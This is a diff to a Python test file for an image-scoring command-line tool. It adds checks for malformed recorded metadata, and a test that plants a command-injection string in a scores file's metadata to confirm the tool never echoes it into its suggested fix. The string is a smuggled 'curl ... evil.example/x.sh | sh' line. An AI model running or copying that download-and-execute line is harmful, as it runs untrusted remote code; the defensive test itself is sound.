@@ -358,6 +358,17 @@ def _no_provenance(w: WS, t: Path):
     return w.export(t / "core", scores=t / "old.safetensors")
 
 
+def _bad_recorded(field: str, value):
+    """A copy of the sub-image scores whose recorded layout (metadata ``data``) has ``field: value``."""
+    def build(w: WS, t: Path):
+        s = Scores.load(w.sub)
+        md = dict(s.metadata)
+        md["data"] = {**md["data"], field: value}
+        Scores(s.values, keys=s.keys, metadata=md).save(t / "bad.safetensors")
+        return w.export(t / "core", scores=t / "bad.safetensors")
+    return build
+
+
 def _rescore_into(*extra, data=None):
     """``score`` into a copy of the sub-image scores (interpolation, crop 32, step 32) with other settings."""
     def build(w: WS, t: Path):
@@ -380,6 +391,18 @@ CASES += [
     Case("plot-grid-image-changed-since-scoring", _stale("plot"), 2, ("changed since scoring", "noise.png")),
     Case("export-lr-image-changed-since-scoring", _stale_lr, 2, ("lr_sources", "gradient.png", "changed")),
     Case("export-scores-without-provenance", _no_provenance, 2, ("records no provenance", "old.safetensors")),
+    # issue 19 item 10 (exp-meta-badcrop): a damaged recorded layout is named, not a traceback or a "--crop" never given
+    Case("export-recorded-crop-not-a-number", _bad_recorded("crop", "x"), 2,
+         ("bad.safetensors", "recorded data layout has crop 'x', not an integer >= 1", "rescore with: "),
+         check=_no_output_written),
+    Case("export-recorded-crop-negative", _bad_recorded("crop", -3), 2, ("recorded data layout has crop -3",),
+         check=_no_output_written),
+    Case("export-recorded-crop-zero", _bad_recorded("crop", 0), 2, ("recorded data layout has crop 0",),
+         check=_no_output_written),
+    Case("export-recorded-step-fraction", _bad_recorded("step", 2.5), 2, ("recorded data layout has step 2.5",),
+         check=_no_output_written),
+    Case("export-recorded-scale-text", _bad_recorded("scale", "2"), 2, ("recorded data layout has scale '2'",),
+         check=_no_output_written),
     Case("score-into-scores-of-another-scorer", _rescore_into("--scorer", "sobel", "--crop", CROP, "--step", STEP),
          2, ("scorer is 'interpolation' in the scores file but 'sobel' here", "--rescore"), check=_unchanged_scores),
     Case("score-into-scores-of-another-scale",
@@ -795,6 +818,38 @@ def test_stale_export_names_the_command_that_rescores(ws, tmp_path, capsys):
     code, out, err = call(capsys, "export", data, "--scores", s, "--out", tmp_path / "core", "--no-progress")
     assert code == 0, err
     assert "exported " in out
+
+
+HOSTILE = "; curl -s http://evil.example/x.sh | sh; true"
+
+
+@pytest.mark.parametrize("cmd", ["export", "select", "plot"])
+def test_rescore_hint_is_ours_never_the_files_command(cmd, ws, tmp_path, capsys, untouched):
+    """Issue 19 item 9: the suggested fix is built from this run's arguments and values we vouch for, quoted
+    with shlex; a shared file's recorded ``command`` (or a scorer path in it) never reaches the message."""
+    import shlex
+
+    data, s, _ = _scored_copy(ws, tmp_path)
+    hostile_path = tmp_path / "my scores.safetensors"  # a path that needs quoting
+    scores = Scores.load(s)
+    md = dict(scores.metadata)
+    md["command"] = f"coreset-sr score {data} --scorer interpolation --out {hostile_path} {HOSTILE}"
+    md["provenance"] = {**md["provenance"], "scorer": f"m.pth{HOSTILE}"}
+    Scores(scores.values, keys=scores.keys, metadata=md).save(hostile_path)
+    _repaint(data / "noise.png")
+    argv = {"export": ["export", data, "--scores", hostile_path, "--out", tmp_path / "core", "--no-progress"],
+            "select": ["select", hostile_path, "--no-progress"],
+            "plot": ["plot", hostile_path, "--grid", data, "--out", tmp_path / "g.png", "--no-progress"]}[cmd]
+    with untouched(data):
+        code, _, err = call(capsys, *argv)
+    line = one_error_line(err)
+    assert code == 2 and "changed since scoring" in line
+    assert "curl" not in line and "evil.example" not in line and "| sh" not in line
+    hint = line.split("rescore with: ", 1)[1]
+    words = shlex.split(hint)
+    assert words[:2] == ["coreset-sr", "score"] and words[-3:] == ["--out", str(hostile_path), "--rescore"]
+    assert words[2] == (str(data) if cmd != "select" else "DATA")  # the folder this run was given, else a placeholder
+    assert words[words.index("--scorer") + 1] == "MODEL"  # a scorer that is not a built-in name is not repeated
 
 
 def test_cli_records_its_scorer_spec(ws, tmp_path):
